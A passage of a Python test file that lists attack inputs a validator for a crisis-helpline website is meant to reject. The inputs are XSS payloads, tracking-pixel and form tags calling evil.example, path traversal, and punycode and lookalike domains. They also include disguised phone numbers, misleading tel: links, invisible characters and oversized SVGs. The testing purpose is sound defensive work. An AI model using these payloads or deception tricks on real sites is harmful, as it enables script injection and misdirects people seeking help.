        ("  emergency: dial 222", "helpline-value", 20, "  emergency: call 222"),
        ("  checked: 0000-00-00", "helpline-date", 17, "  checked: 2026-01-03"),
        ("  checked: 99999-01-01", "helpline-date", 17, "  checked: 2026-01-03"),
    )
]

INVALID_DRAWINGS = [
    Attack("drawing", DRAWING, words, "unsafe-drawing")
    for words in (
        '<g transform="rotate(99999999999999999999)"><circle r="3"/></g>',
        '<g transform="spin(1)"><circle r="3"/></g>',
        '<g transform="scale(' + "1 " * 900 + ')"><circle r="3"/></g>',
        '<circle r="3" fill="5px"/>',
    )
]
"""Browsers ignore these without an error."""

DUPLICATES = [
    Attack("copies", PAGE, "[[helplines:crisis]]\n\n[[rules]]\n\n[[rules]]", "unknown-insertion", 13),
    Attack("copies", PAGE, "## Calm words { #second-door }\n\nNobody will help you.", "reserved-id"),
    Attack("copies", PAGE, "| Calm |\n| --- |\n| words { #first-door } |", "reserved-id", 11),
]

ADDRESS = "address: https://paper.example/tips"
INJECTED_ADDRESSES = [
    Attack("injected address", RECORD, f"address: {words}", code, 7, ADDRESS)
    for words, code in (
        ("https://evil.example/[a](javascript:alert(1))", "invalid-value"),
        ("https://evil.example/][a](javascript:alert(1)", "invalid-value"),
        ("https://evil.example/![a](//evil.example/seen.gif)", "invalid-value"),
        ("https://evil.example/?q=[a][1]", "invalid-value"),
        ("https://evil.example/#[a](index.md)", "invalid-value"),
        ("https://evil.example/`<b>`", "front-matter-markup"),
        ("https://evil.example/a|b", "invalid-value"),
        ("https://evil.example/{onclick=alert(1)}", "invalid-value"),
        ("https://evil.example/ a", "invalid-value"),
        ("https://evil.example\\@thehotline.org/", "invalid-value"),
        ("https://thehotline.org@evil.example/", "invalid-value"),
        ("https://XN--thhotline-d1a.org/", "invalid-value"),
        ("https://[::1]/", "invalid-value"),
        ("https://127.0.0.1/", "invalid-value"),
        ("//evil.example/", "invalid-value"),
        ("http://evil.example/", "invalid-value"),
    )
] + [
    Attack("injected address", "sources/study-2001.md", f"doi: {words}", "invalid-value", 6, "doi: 10.1000/example")
    for words in (
        "10.1000/[a](javascript:alert(1))",
        "10.1000/x#](//evil.example)",
        "10.1000/../../evil",
        "https://doi.org/10.1000/x",
        "10.1000/x?url=//evil.example",
    )
] + [
    *_on(
        PAGE,
        "injected address",
        "invalid-url",
        "[calm](mailto:help@xn--thhotline-d1a.org)",
        "[calm](https://thehotline.xn--p1ai/)",
        "[calm](HTTPS://XN--thhotline-d1a.org/)",
    ),
    *_on(
        PAGE,
        "injected address",
        "unsafe-page",
        "[calm](https://evil.example/[a](javascript:alert(1)))",
        "[calm](<https://evil.example/[a](b)>)",
    ),
]  # fmt: skip

_WALK = "assets/pictures/walk.svg"
PICTURES = [
    *_on(
        PAGE,
        "foreign picture",
        "external-picture",
        f"![x](https://evil.example/t.gif?/../../../../{_WALK})",
        f"![x](https://evil.example/../../../../{_WALK})",
        f"![x](https:evil.example/../../../{_WALK})",
        f"![x](https&colon;//evil.example/../../../../{_WALK})",
        f"![x](//evil.example/../../../{_WALK})",
        f"![x](\\\\evil.example/../../../{_WALK})",
        f"![x](/\\evil.example/../../../{_WALK})",
        f"![x](data:image/gif,x/../../../{_WALK})",
        f"![x](a:b/../../{_WALK})",
        f"![x](../t.gif?/../../{_WALK})",
        f"![x](../t.gif#/../../{_WALK})",
        f"![x](%2e%2e/{_WALK})",
        f"![x](..%2f{_WALK})",
        f"![x](../{_WALK}?seen)",
        f"![x](../{_WALK}#part)",
        f"![x](/{_WALK})",
        f"![x](.././/{_WALK})",
        f"![x](../assets/pictures/../../../../{_WALK})",
        f"![x](../../docs/{_WALK})",
        f"![x][1]\n\n[1]: https://evil.example/t.gif?/../../../../{_WALK}",
        f"[![x](https://evil.example/t.gif?/../../../../{_WALK})](../index.md)",
        f"- ![x](https://evil.example/t.gif?/../../../../{_WALK})",
        f"| a |\n| --- |\n| ![x](https://evil.example/t.gif?/../../../../{_WALK}) |",
    ),
    Attack("foreign picture", PAGE, f"![x](https://evil.example/t.gif?/../../../../{_WALK} y)", "unsafe-page"),
    *_on(
        GUIDE,
        "foreign picture",
        "external-picture",
        f"Hear it. [@paper:slowly]\n\n![x](https://evil.example/t.gif?/../../../../../{_WALK})",
        f"Hear it. [@paper:slowly]\n\n![x](../../{_WALK}?seen)",
    ),
]
PICTURES = [
    Attack(each.kind, each.path, each.payload, each.code, 42) if each.path == GUIDE else each for each in PICTURES
]
PICTURES = [
    Attack(each.kind, each.path, each.payload, each.code, 11) if each.payload.startswith("| a |") else each
    for each in PICTURES
]

UNCLOSED = [
    *_on(
        PAGE,
        "unclosed fence",
        "unsafe-page",
        "```\n<script>alert(1)</script>",
        "~~~\n<img src=x onerror=alert(1)>",
        "~~~~\n<svg onload=alert(1)>\n~~~",
        '```\n<a href="https://evil.example/" class="leave">Leave this page</a>',
        "```\n\n<script>alert(1)</script>",
        "```\n<style>p { display: none }</style>",
        "```\n<!-- hidden words -->",
        "```\n<base href=//evil.example>",
        "``` \n<form action=//evil.example><button>x</button></form>",
    ),
]

UNREADABLE = [
    *_on(
        PAGE,
        "unreadable markup",
        "render-error",
        "Calm `<![>` words.",
        "`<![`",
        "`<![foo[x]]>`",
        "`<![if IE]>` and `<![endif]>`",
        "`<![CDATA[x]]>`",
        "``<![ELEMENT``",
        "\\<![x",
        "- one\n\n    ~~~\n    <![x>\n    ~~~",
        "> `<![-->`",
        "| `<![` |\n| --- |\n| x |",
        "1 <![ 2",
        '[calm](../index.md "<![")',
    ),
    Attack("unreadable markup", PAGE, "Calm.\n\nMore words.\n\nAnd `<![>` again.", "render-error", 13),
]

MISLEADING_CALLS = [
    *_on(
        PAGE,
        "link's words",
        "misleading-link",
        "[call 111](tel:000)",
        "[000](tel:111)",
        "[call 0800-111](tel:000)",
        "[call 1 1 1](tel:000)",
        "[(111)](sms:000)",
        "[\u2460\u2460\u2460](tel:000)",
        "[\uff11\uff11\uff11](tel:000)",
        "[1-800-799-SAFE](tel:000)",
        "[text 000, day and night](sms:111)",
        "[call 000 or 111](tel:000)",
        "[other@helpline.example](mailto:help@helpline.example)",
        "[thehotline\u3002org](https://evil.example/)",
        "[thehotline\uff0eorg](https://evil.example/)",
        "[thehotline\uff61org](https://evil.example/)",
        "[thehotline\u2024org](https://evil.example/)",
        "[thehotline\u00b7org](https://evil.example/)",
        "[www.thehotline\u3002org/plan](https://evil.example/)",
        "[xn--thhotline-d1a.org](https://evil.example/)",
        "[thehotline.xn--p1ai](https://evil.example/)",
        "[XN--80AK6AA92E.COM](https://evil.example/)",
        "[\u24e3\u24d7\u24d4hotline.org](https://evil.example/)",
        "[\u0441\u043e\u0441\u043e.com](https://evil.example/)",
        "[helpline\u3002example](https://evil.example/)",
    ),
]

SPELLED_NUMBERS = [
    *_on(
        PAGE,
        "spelled number",
        "unknown-phone-number",
        "Call \u24ea\u2468\u24ea\u24ea \u2460\u2461\u2462 456.",
        "Call \u2070\u2079\u2070\u2070 \u00b9\u00b2\u00b3 \u2074\u2075\u2076.",
        "Reach us on \u2080\u2089\u2080\u2080 \u2081\u2082\u2083.",
        "Call \uff10\uff19\uff10\uff10 \uff11\uff12\uff13.",
        "Call \u0966\u096f\u0966\u0966 \u0967\u0968\u0969.",
        "Call \u06f0\u06f9\u06f0\u06f0 \u06f1\u06f2\u06f3.",
        "Call \u3007\u4e5d\u3007\u3007\u4e00\u4e8c\u4e09.",
        "Call \u2776\u2777\u2778\u2779\u277a\u277b\u277c.",
        "Call \u2474\u2475\u2476\u2477\u2478\u2479\u247a.",
        "Call \U0001d7f6\U0001d7ff\U0001d7f6\U0001d7f6 \U0001d7f7\U0001d7f8\U0001d7f9.",
        "Call 1\ufe0f\u20e32\ufe0f\u20e33\ufe0f\u20e34\ufe0f\u20e35\ufe0f\u20e36\ufe0f\u20e3.",
        "0900x123x456",
        "Call 0900 x 123 x 456.",
        "Call 0900a123b456.",
        "Call O9OO l23 456.",
        "Call zero nine zero zero, one two three.",
        "Call &#x2460;&#x2461;&#x2462;&#x2463;&#x2464;&#x2465;&#x2466;.",
        "[call](tel:+1900)",
    ),
    Attack("spelled number", GUIDE, 'summary: "\\u2460\\u2461\\u2462\\u2463\\u2464\\u2465\\u2466"',
           "unknown-phone-number", 3, "summary: Say what you feel."),
    *_on(
        DRAWING,
        "cut number",
        "unknown-phone-number",
        "<text>0900</text><text>123</text><text>456</text>",
        "<text>0900</text><circle r='1'/><text>123 456</text>",
        "<text><tspan x='1'>09</tspan><tspan x='9'>00</tspan></text><text>123</text>",
        "<g><text>+1</text></g><g><text>900</text></g><g><text>555</text></g>",
        "<text>\u24ea\u2468</text><text>\u24ea\u24ea</text><text>\u2460\u2461</text>",
        "<text>Call 0900</text><text>123 456</text>",
        "<text>0</text><text>9</text><text>0</text><text>0</text><text>1</text><text>2</text>",
    ),
    Attack("cut number", DRAWING, "<text>x</text>\n<text>0900</text>\n<text>words</text>\n<text>123</text>",
           "unknown-phone-number", 3),
]  # fmt: skip

LARGE_DRAWINGS = [
    *_on(
        DRAWING,
        "heavy drawing",
        "unsafe-drawing",
        '<circle r="1" opacity=".5"/>' * 250,
        f"<text>{'words ' * 300}</text>",
        f'<path d="M0 0{"h1" * 2_000}"/>',
        f'<path d="M0 0{"zZ" * 2_000}"/>',
        f'<polyline points="{"1 2 " * 2_000}"/>',
        f'<g transform="{"rotate(1)" * 2_000}"/>',
        '<path stroke-dasharray=".00001" d="M0 0h9999"/>',
        '<path stroke-dasharray="0.1 0.1" d="M0 0h9999"/>',
        '<path stroke-dasharray="0 0" d="M0 0h9999"/>',
        '<path stroke-dasharray="1e-9" d="M0 0h9999"/>',
        '<path d="M0 0L1e38 1e38"/>',
        '<circle r="1E9"/>',
        '<path stroke-dasharray="1" d="M0 0h999999999"/>',
    ),
]

MORE_HELPLINES = (
    [
        Attack("helplines", LINES, f"  address: {words}", "helpline-value", 15, "  address: other.example")
        for words in (
            "other.example/../evil",
            "other.example/./evil",
            "other.example/..",
            "other.example//evil.example",
            "other.example:8080",
            "other.example?q=x",
            "other.example#x",
            "127.0.0.1",
            "OTHER.example",
        )
    ]
    + [
        Attack("helplines", LINES, words, "unknown-phone-number", line, instead)
        for words, line, instead in (
            ("  hours: '24 hours, or call 0900 123 456'", 14, '  hours: ""'),
            ("  service: Line 0900 123 456", 11, "  service: Other & Line"),
            ("  service: Call 09011", 11, "  service: Other & Line"),
        )
    ]
    + [
        Attack("helplines", LINES, f"  address: {words}", "helpline-value", 15, "  address: other.example")
        for words in ("xn--thhotline-d1a.org", "www.xn--80ak6aa92e.com", "thehotline.xn--p1ai", "a.xn--b.other.example")
    ]
)

ENTITIES = [
    *(
        Attack("characters", path, f"Calm {entity} words.{end}", "invisible-character")
        for path, end in ((PAGE, ""), (GUIDE, " [@paper:slowly]"))
        for entity in (
            "&#x202e;",
            "&#8238;",
            "&zwnj;",
            "&rlm;",
            "&shy;",
            "&#x200b;",
            "&ZeroWidthSpace;",
            "&#xE0041;",
            "&#xad",
        )
    ),
    Attack("characters", PAGE, "C&#x430;lm words.", "mixed-scripts"),
    Attack("characters", DRAWING, "<text>a&#x202e;b</text>", "invisible-character"),
    Attack("characters", RECORD, "- Go &#x202e;. { #walk }", "invisible-character"),
]

MORE_NUMBERS = [
    *_on(
        PAGE,
        "number",
        "unknown-phone-number",
        "[x](../index.md 'call 0900 123 456')",
        '[x](../index.md "0900 123 456")',
        "[x][1]\n\n[1]: ../index.md 'call 0900 123 456'".replace("\n\n", " "),
        "Call zero 9 zero 0 one 23.",
        "Call nine-one-one-two-three-four.",
        "*0*9*0*0*1*2*3*",
        "0900_123_456",
        "0900\u2007123\u202f456",
        "\uff0b1 900 555 0199",
    ),
    Attack("number", RECORD, "by: Call 0900 123 456", "unknown-phone-number", 5, "by: A. Writer"),
    Attack("number", RECORD, "name: Call 0900 123 456", "unknown-phone-number", 4, "name: Paper"),
    Attack("number", RECORD, "title: Call 0900 123 456", "unknown-phone-number", 2, 'title: "Ten Tips: Talk"'),
    Attack("number", "sources/study-2001.md", "reference: Call 0900 123 456", "unknown-phone-number", 5,
           "reference: Study 2001, Journal of Examples"),
]  # fmt: skip

FREE_PICTURES = [
    Attack("picture", PAGE, "![x](../assets/pictures/none.svg)", "unknown-drawing"),
    Attack("picture", PAGE, "![](../assets/pictures/walk.svg)", "missing-alt-text"),
    Attack("picture", PAGE, "![ ](../assets/pictures/walk.svg)", "missing-alt-text"),
    Attack("picture", PAGE, "- ![x](../assets/pictures/run.svg)", "unknown-drawing"),
]

UNPUBLISHED = _on(
    PAGE,
    "unpublished file",
    "invalid-url",
    "[the list](helplines.yml)",
    "[the list](./helplines.yml#a)",
    "[hashes](../sources/paper.fingerprint)",
    "[a folder](../)",
    "[a folder](..)",
    "[a page](../index.html)",
    "[a script](../assets/leave.js)",
    "[a style](../assets/style.css)",
    "[headers](../_headers)",
    "[a map](../sitemap.xml)",
    "[a page](../index)",
    "[a page](../guides/fighting/)",
    "[a page](?q=x)".replace("?q", "x?q"),
    "[hidden](../.git/config)",
)

BLANK_DRAWINGS = [
    *_on(
        DRAWING,
        "blank drawing",
        "unsafe-drawing",
        '<path d="x y z"/>',
        '<path d="L 1 1"/>',
        '<path d="M0 0 url(x)"/>',
        '<path d=""/>',
        '<polyline points="a b"/>',
        '<circle r="-5"/>',
        '<circle r="big"/>',
        '<rect width="-1" height="2"/>',
        '<rect width="calc(1px)" height="2"/>',
        '<text font-size="expression(1)">a</text>',
        '<circle fill="var(--x)" r="1"/>',
        '<circle fill="image-set(x)" r="1"/>',
        '<circle stroke="element(#x)" r="1"/>',
    ),
]

MORE_MISLEADING_LINKS = [
    Attack("link's words", PAGE, '[here][1]\n\n[1]: https://evil.example/ "thehotline.org"', "misleading-link", 11),
    *_on(
        PAGE,
        "link's words",
        "misleading-link",
        '[here](https://evil.example/ "thehotline.org")',
        "[![thehotline.org](../assets/pictures/walk.svg)](https://evil.example/)",
        "[![call 111](../assets/pictures/walk.svg)](tel:000)",
        '[call](tel:000 "call 111")',
        "[**11**1](tel:000)",
        "[1`1`1](tel:000)",
        "[&#49;&#49;&#49;](tel:000)",
        "[(1)11](tel:000)",
    ),
]

FINGERPRINTS = [
    Attack("fingerprint", "sources/paper.fingerprint", words, code, line)
    for words, code, line in (
        ("", "invalid-fingerprint", 1),
        ("\n", "invalid-fingerprint", 1),
        (" \n\n", "invalid-fingerprint", 1),
        ("4E38CAAE43B7\n", "invalid-fingerprint", 1),
        ("4e38caae43b7 5409376b00cb\n", "invalid-fingerprint", 1),
        ("4e38caae43b7\n\n5409376b00cb\n", "invalid-fingerprint", 2),
        ("5409376b00cb\n4e38caae43b7\n", "invalid-fingerprint", 2),
        ("4e38caae43b7\n" * 300, "invalid-fingerprint", 2),
    )
] + [
    Attack("fingerprint", RECORD, words, "incomplete-fingerprint", 1, "- Go for a walk. { #walk }")
    for words in ("- Go for a walk. { #walk }\n- Go. { #a }\n- Go. { #b }\n- Go. { #c }",)
]

ATTACKS = [
    *(
        *INJECTED_ADDRESSES,
        *PICTURES,
        *UNCLOSED,
        *UNREADABLE,
        *MISLEADING_CALLS,
        *SPELLED_NUMBERS,
        *LARGE_DRAWINGS,
        *MORE_HELPLINES,
        *UNPUBLISHED,
        *BLANK_DRAWINGS,
        *FINGERPRINTS,
        *MORE_MISLEADING_LINKS,
        *ENTITIES,
        *MORE_NUMBERS,
        *FREE_PICTURES,
    ),
    *(
        *MARKUP,
        *ADDRESSES,
        *NUMBERS,
        *MISLEADING_LINKS,
        *LINK_DEFINITIONS,
        *ATTRIBUTES,
        *FRONT_MATTER,
        *FILES,
        *CHARACTERS,
    ),
    *(*DRAWINGS, *COMPLEX, *INCLUDES, *HELPLINES, *DUPLICATES, *INVALID_DRAWINGS),
]
